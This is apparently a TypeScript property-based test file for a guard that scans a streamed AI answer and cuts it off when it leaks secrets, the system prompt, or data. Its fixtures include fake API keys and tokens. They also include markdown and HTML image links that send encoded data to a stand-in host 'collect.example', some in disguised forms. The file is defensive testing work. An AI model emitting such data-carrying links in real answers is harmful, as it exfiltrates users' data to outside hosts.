import fc from 'fast-check';
import { describe, expect, it, vi } from 'vitest';
import type { GuardAction, GuardResult } from '../contracts/guard.js';
import { guardForTests } from './testing/guard.js';

const long = process.env.ARKALIA_TEST_LONG === '1';
if (long) vi.setConfig({ testTimeout: 600_000 });

const guard = guardForTests();
const systemPrompt =
  'You are the assistant of a small local appliance in the attic. Answer briefly and honestly; say so when you do not know the answer at all.';
const random43 = 'Zk3v_9aBcDeFgHiJkLmNoPqRsTuVwXyZ012345678-x';

/** Every kind of secret, put together so that no scanner takes this file for a leak. */
const secrets: Record<string, string> = {
  'our own key': `ark_${'k7Q2'}_${random43}`,
  'an OpenAI key': `sk-${'proj-'}${'aB3dE6gH9jK2mN5pQ8sT'}`,
  'a GitHub token': `ghp_${'a1B2c3D4e5F6'.repeat(3)}`,
  'a GitHub fine-grained token': `github_pat_${'11ABCDEFG0'.repeat(3)}`,
  'an AWS key id': `AKIA${'IOSFODNN7EXAMPLE'}`,
  'a private key': `-----BEGIN RSA ${'PRIVATE'} KEY-----\nMIIEow\n-----END RSA PRIVATE KEY-----`,
  'a JSON web token': `eyJhbGciOiJIUzI1NiJ9.${'eyJzdWIiOiIxMjM0NTY3ODkwIn0'}.c2lnbmF0dXJl`,
};
const data = 'c2VjcmV0LXNlY3JldC1zZWNyZXQtc2VjcmV0LXNlY3JldC1zZWNyZXQ';
const links: Record<string, string> = {
  'an image': `![x](https://collect.example/p?d=${data})`,
  'a link': `[more](http://collect.example/#${data})`,
  'a reference': `[1]: https://collect.example/?${data}`,
  'an HTML image': `<img src="https://collect.example/p?d=${data}">`,
  'a link without quotes': `<a HREF=//collect.example/p?d=${data}>`,
  'a long path': `![](https://collect.example/${data.repeat(4)})`,
  'a host in disguise': `![](https://localhost@collect.example/?${data})`,
};

interface Run {
  released: string;
  cut: GuardResult | undefined;
}

function stream(
  chunks: readonly string[],
  options: { systemPrompt?: string; action?: GuardAction } = {},
): Run {
  const watcher = guard.watchOutput(options);
  const run: Run = { released: '', cut: undefined };
  for (const step of [...chunks.map((chunk) => () => watcher.push(chunk)), () => watcher.finish()]) {
    const { release, cut } = step();
    run.released += release;
    if (cut !== undefined) {
      expect(run.cut).toBeUndefined();
      run.cut = cut;
    }
  }
  return run;
}

/** Cuts a text at random places; empty pieces happen. */
const chunking = fc.array(fc.nat(12), { minLength: 1, maxLength: 400 });
function split(text: string, sizes: readonly number[]): string[] {
  const chunks: string[] = [];
  let at = 0;
  for (let turn = 0; at < text.length; turn++) {
    const size = sizes[turn % sizes.length] ?? 1;
    chunks.push(text.slice(at, at + size));
    at += size;
    if (turn > text.length * 2 + sizes.length) {
      chunks.push(text.slice(at));
      break;
    }
  }
  return chunks;
}

describe('what is cut', () => {
  it.each(Object.entries({ ...secrets, ...links }))('%s', (_name, secret) => {
    const before = 'Of course, here it is: ';
    const { released, cut } = stream([`${before}${secret} and more`]);
    expect(cut?.verdict).toBe('refuse');
    expect(cut?.reasons[0]?.rule).toBe(
      Object.values(secrets).includes(secret) ? 'secret-in-answer' : 'link-carries-data',
    );
    expect(before + secret).toContain(released);
    expect(released.length).toBeLessThan(before.length + secret.length);
    expect(released.startsWith('Of course, here it is:')).toBe(true);
  });

  it('the system prompt, also in other dress', () => {
    for (const text of [
      systemPrompt,
      `My instructions: "${systemPrompt.toUpperCase()}"`,
      `Part of them: ${systemPrompt.split(' ').slice(5, 18).join('\n')}, and so on`,
      systemPrompt.replaceAll('e', 'é').replaceAll(' ', ' ... '),
      systemPrompt.replaceAll('a', 'a\u200b'),
    ]) {
      const { released, cut } = stream([text], { systemPrompt });
      expect(cut?.reasons[0]?.rule).toBe('system-prompt-leak');
      expect(released.length).toBeLessThan(text.length / 2);
    }
  });

  it('at the first match that is decided, when two overlap', () => {
    const link = `](https://collect.example/?${'a'.repeat(40)}`;
    const { released, cut } = stream([`x${link}${secrets['a GitHub token']}`]);
    expect(released).toBe('x');
    expect(cut?.reasons[0]).toMatchObject({ rule: 'link-carries-data', span: [1, 1 + link.length + 8] });
  });

  it('a short system prompt by a shorter run, also at the very end', () => {
    const short = 'Speak like a pirate at all times';
    expect(stream(['Arr: Speak like a pirate at'], { systemPrompt: short }).cut).toBeDefined();
    expect(stream(['Arr: Speak like a pirate ashore'], { systemPrompt: short }).cut).toBeUndefined();
    expect(stream(['Be kind'], { systemPrompt: 'Be kind' }).cut).toBeUndefined();
  });
});

describe('what passes', () => {
  it.each([
    'The task-management tools, a risk-benefit analysis and the disk-usage figures.',
    'sk-learn-compatible-estimators-are-good and bookmark_of_the_long_list_of_all_of_our_bookmarks',
    'A line:\n----------\n-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----',
    'See [the manual](https://example.org/manual/page?id=42) and ![](local.png) or x[0](1)',
    '[status](http://localhost:8000/status?every=thing&that=is&asked=for&is=local&and=long)',
    '[own](http://127.0.0.1/?aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa)',
    'The assistant of a small local shop answers briefly; the appliance in the attic is warm.',
    'eyJ is how a token begins. AKIA too. ghp_ as well. ark_x_y',
    '',
  ])('%j', (text) => {
    expect(stream([text], { systemPrompt })).toMatchObject({ released: text, cut: undefined });
  });

  it('at once, but for the tail that can become a match', () => {
    const watcher = guard.watchOutput({ systemPrompt });
    expect(watcher.push('Hello there, ').release).toBe('Hello there, ');
    expect(watcher.push('friend').release).toBe('friend');
    expect(watcher.push(' of the s').release).toBe(' of the ');
    expect(watcher.push('ea gh').release).toBe('sea ');
    expect(watcher.push('ost').release).toBe('ghost');
    expect(watcher.push(' [a](htt').release).toBe(' [a');
    expect(watcher.push('ps://example.org/x)').release).toBe('](https://example.org/x)');
    expect(watcher.finish()).toEqual({ release: '' });
  });

  it('everything after a cut that is only observed', () => {
    const text = `a ${secrets['an AWS key id']} b ${secrets['a GitHub token']} c`;
    const { released, cut } = stream(split(text, [3]), { action: 'observe' });
    expect(released).toBe(text);
    expect(cut).toEqual(stream([text]).cut);
  });

  it('nothing after a cut', () => {
    const watcher = guard.watchOutput({});
    expect(watcher.push(secrets['an AWS key id'] ?? '').cut).toBeDefined();
    expect(watcher.push('more')).toEqual({ release: '' });
    expect(watcher.finish()).toEqual({ release: '' });
  });
});

describe('any chunking', () => {
  const piece = fc.oneof(
    fc.constantFrom(...Object.values(secrets), ...Object.values(links)),
    fc.constantFrom(
      'ark_',
      'sk-',
      'AK',
      'ghp_',
      '-----BEGIN ',
      'eyJ',
      '](',
      '](https://',
      'src=',
      ' ',
      '\n',
      '. ',
    ),
    fc.constantFrom(...systemPrompt.split(' ')).map((word) => `${word} `),
    fc.nat(20).map((from) =>
      systemPrompt
        .split(' ')
        .slice(from, from + 9)
        .join(' '),
    ),
    fc.string({ unit: 'binary' }),
    fc.lorem({ maxCount: 4 }),
  );
  const answer = fc.array(piece, { maxLength: 12 }).map((pieces) => pieces.join(''));
  const numRuns = long ? 10_000 : 800;

  it('gives the same verdict and the same text, and loses none without a cut', () => {
    fc.assert(
      fc.property(answer, chunking, (text, sizes) => {
        const whole = stream([text], { systemPrompt });
        const pieces = stream(split(text, sizes), { systemPrompt });
        const units = stream(text.split(''), { systemPrompt });
        expect(pieces).toEqual(whole);
        expect(units).toEqual(whole);
        if (whole.cut === undefined) expect(whole.released).toBe(text);
        else {
          const [start, end] = whole.cut.reasons[0]?.span ?? [0, 0];
          expect(whole.released).toBe(text.slice(0, start));
          expect(start < end && end <= text.length).toBe(true);
        }
      }),
      { numRuns },
    );
  });

  it('releases no secret in whole', () => {
    const secret = fc.constantFrom(...Object.values(secrets), ...Object.values(links));
    const around = fc.lorem({ maxCount: 3 }).map((words) => ` ${words} `);
    fc.assert(
      fc.property(around, secret, around, chunking, (before, hidden, after, sizes) => {
        const { released, cut } = stream(split(before + hidden + after, sizes), { systemPrompt });
        expect(cut).toBeDefined();
        expect(released).not.toContain(hidden);
        expect(`${before}${hidden}`.startsWith(released)).toBe(true);
      }),
      { numRuns },
    );
  });

  it('holds at most 256 code units, and says nothing twice', () => {
    fc.assert(
      fc.property(answer, chunking, (text, sizes) => {
        const watcher = guard.watchOutput({ systemPrompt });
        let pushed = 0;
        let released = 0;
        for (const chunk of split(text, sizes)) {
          const { release, cut } = watcher.push(chunk);
          pushed += chunk.length;
          released += release.length;
          if (cut !== undefined) return;
          expect(pushed - released).toBeLessThanOrEqual(256);
        }
      }),
      { numRuns },
    );
  });
});
